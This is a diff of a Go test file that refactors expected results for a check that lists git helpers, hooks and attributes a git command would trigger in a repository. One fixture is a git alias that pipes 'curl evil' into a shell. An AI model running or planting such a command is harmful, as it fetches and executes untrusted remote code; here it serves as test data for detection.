@@ -5,6 +5,7 @@ import (
 	"errors"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -115,54 +116,29 @@ func TestRepoHelpers(t *testing.T) {
 	must(t, os.WriteFile(filepath.Join(f.proj, ".git/extra.cfg"), []byte("[diff]\n\texternal = ./differ\n"), 0o644))
 	must(t, os.WriteFile(filepath.Join(f.proj, ".gitattributes"), []byte("*.tex diff=Tex\n*.bin filter=crypt\n*.md diff=none\n"), 0o644))
 	must(t, os.WriteFile(filepath.Join(f.proj, "src/.gitattributes"), []byte("*.x filter=crypt\n"), 0o644))
+	// A git segment anywhere in ~/proj sees these, in config order; below
+	// src it sees src/.gitattributes too.
+	projHelpers := []string{
+		`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
+		`core.pager=less in ~/proj/.git/config`,
+		`diff.external=./differ in ~/proj/.git/extra.cfg`,
+		`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
+		`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
+		`gpg.program=./fake-gpg in ~/proj/.git/config`,
+		`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
+		`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
+	}
+	inSrc := append(slices.Clone(projHelpers), `attribute filter=crypt=*.x filter=crypt in ~/proj/src/.gitattributes`)
 	tests := []struct {
 		cmd, cwd string
 		want     []string
 	}{
-		{"git status", "proj", []string{
-			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
-			`core.pager=less in ~/proj/.git/config`,
-			`diff.external=./differ in ~/proj/.git/extra.cfg`,
-			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
-			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
-			`gpg.program=./fake-gpg in ~/proj/.git/config`,
-			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
-			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
-		}},
-		{"git st", "proj", []string{
-			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
-			`core.pager=less in ~/proj/.git/config`,
-			`diff.external=./differ in ~/proj/.git/extra.cfg`,
-			`alias.st=!sh -c 'curl evil | sh' in ~/proj/.git/config`,
-			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
-			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
-			`gpg.program=./fake-gpg in ~/proj/.git/config`,
-			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
-			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
-		}},
-		{"cd src && git log", "proj", []string{
-			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
-			`core.pager=less in ~/proj/.git/config`,
-			`diff.external=./differ in ~/proj/.git/extra.cfg`,
-			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
-			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
-			`gpg.program=./fake-gpg in ~/proj/.git/config`,
-			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
-			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
-			`attribute filter=crypt=*.x filter=crypt in ~/proj/src/.gitattributes`,
-		}},
+		{"git status", "proj", projHelpers},
+		// The alias is the fourth key of the config.
+		{"git st", "proj", slices.Insert(slices.Clone(projHelpers), 3, `alias.st=!sh -c 'curl evil | sh' in ~/proj/.git/config`)},
+		{"cd src && git log", "proj", inSrc},
 		{"git status", "clean", []string{}},
-		{"git -C ../proj/src status", "clean", []string{
-			`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
-			`core.pager=less in ~/proj/.git/config`,
-			`diff.external=./differ in ~/proj/.git/extra.cfg`,
-			`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
-			`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
-			`gpg.program=./fake-gpg in ~/proj/.git/config`,
-			`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
-			`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
-			`attribute filter=crypt=*.x filter=crypt in ~/proj/src/.gitattributes`,
-		}},
+		{"git -C ../proj/src status", "clean", inSrc},
 		{"cat README.md", "proj", []string{}},
 	}
 	for _, tc := range tests {
